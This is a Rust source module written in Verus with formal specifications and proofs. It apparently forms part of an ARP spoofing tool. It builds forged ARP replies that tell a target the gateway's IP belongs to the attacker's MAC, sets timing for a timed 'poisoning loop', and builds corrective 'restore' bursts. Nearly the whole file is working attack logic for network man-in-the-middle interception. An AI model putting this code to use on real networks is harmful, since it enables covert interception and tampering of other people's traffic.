use vstd::prelude::*;

use crate::codec::{arp_frame, encode, ArpOperation, Endpoint};

verus! {

/// Time between two poisoned replies, in milliseconds.
pub const ATTACK_INTERVAL_MS: u64 = 1000;

/// Number of corrective replies in a restore burst.
pub const RESTORE_COUNT: usize = 10;

/// Time between two corrective replies, in milliseconds.
pub const RESTORE_INTERVAL_MS: u64 = 500;

/// Default attack duration, in seconds.
pub const DEFAULT_DURATION_SECS: u64 = 60;

/// The forged reply: the gateway's address claimed by our own MAC, sent to the target.
pub open spec fn poison_frame_spec(gateway_ip: [u8; 4], own_mac: [u8; 6], target: Endpoint) -> Seq<u8> {
    arp_frame(ArpOperation::Reply, Endpoint { ip: gateway_ip, mac: own_mac }, target)
}

/// The corrective reply: the gateway's true mapping, sent to the target.
pub open spec fn restore_frame_spec(gateway: Endpoint, target: Endpoint) -> Seq<u8> {
    arp_frame(ArpOperation::Reply, gateway, target)
}

/// Builds the reply that tells `target` that the gateway's address belongs to `own_mac`.
pub fn poison_frame(gateway_ip: &[u8; 4], own_mac: &[u8; 6], target: &Endpoint) -> (r: Vec<u8>)
    ensures
        r@ == poison_frame_spec(*gateway_ip, *own_mac, *target),
{
    let source = Endpoint { ip: *gateway_ip, mac: *own_mac };
    encode(ArpOperation::Reply, &source, target)
}

/// Builds the reply that gives `target` the gateway's true mapping back.
pub fn restore_frame(gateway: &Endpoint, target: &Endpoint) -> (r: Vec<u8>)
    ensures
        r@ == restore_frame_spec(*gateway, *target),
{
    encode(ArpOperation::Reply, gateway, target)
}

/// The frames of a restore burst, in the order they are sent.
pub open spec fn restore_burst_spec(gateway: Endpoint, target: Endpoint) -> Seq<Seq<u8>> {
    Seq::new(RESTORE_COUNT as nat, |i: int| restore_frame_spec(gateway, target))
}

/// Builds the whole restore burst: `RESTORE_COUNT` copies of the corrective reply.
pub fn restore_burst(gateway: &Endpoint, target: &Endpoint) -> (r: Vec<Vec<u8>>)
    ensures
        r@.len() == RESTORE_COUNT,
        forall|i: int| 0 <= i < r@.len() ==> #[trigger] r@[i]@ == restore_burst_spec(*gateway, *target)[i],
{
    let mut burst: Vec<Vec<u8>> = Vec::new();
    let mut i: usize = 0;
    while i < RESTORE_COUNT
        invariant
            i <= RESTORE_COUNT,
            burst@.len() == i,
            forall|k: int| 0 <= k < i ==> #[trigger] burst@[k]@ == restore_frame_spec(*gateway, *target),
        decreases RESTORE_COUNT - i,
    {
        burst.push(restore_frame(gateway, target));
        i += 1;
    }
    burst
}

/// Two restore bursts for the same endpoints are the same full burst, and every
/// frame in it carries the same sender and target.
pub proof fn lemma_restore_repeatable(gateway: Endpoint, target: Endpoint, a: Seq<Seq<u8>>, b: Seq<Seq<u8>>)
    requires
        a.len() == RESTORE_COUNT,
        b.len() == RESTORE_COUNT,
        forall|i: int| 0 <= i < a.len() ==> #[trigger] a[i] == restore_burst_spec(gateway, target)[i],
        forall|i: int| 0 <= i < b.len() ==> #[trigger] b[i] == restore_burst_spec(gateway, target)[i],
    ensures
        a == b,
        forall|i: int| 0 <= i < a.len() ==> #[trigger] a[i] == restore_frame_spec(gateway, target),
{
    assert(a =~= b);
}

/// Where the poisoning loop stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum LoopState {
    Running,
    Expired,
    Cancelled,
}

/// The state of the poisoning loop after `elapsed_ms` of a `duration_ms` attack:
/// cancellation wins, then expiry; a zero duration expires at once.
pub fn attack_state(elapsed_ms: u64, duration_ms: u64, cancelled: bool) -> (r: LoopState)
    ensures
        cancelled ==> r == LoopState::Cancelled,
        !cancelled && elapsed_ms >= duration_ms ==> r == LoopState::Expired,
        !cancelled && elapsed_ms < duration_ms ==> r == LoopState::Running,
{
    if cancelled {
        LoopState::Cancelled
    } else if elapsed_ms >= duration_ms {
        LoopState::Expired
    } else {
        LoopState::Running
    }
}

/// An attack duration in milliseconds, for a duration given in seconds
/// (the largest value stands for durations too long to count).
pub fn duration_ms(secs: u64) -> (r: u64)
    ensures
        secs * 1000 <= u64::MAX ==> r == secs * 1000,
        secs * 1000 > u64::MAX ==> r == u64::MAX,
{
    if secs > u64::MAX / 1000 {
        u64::MAX
    } else {
        secs * 1000
    }
}

} // verus!
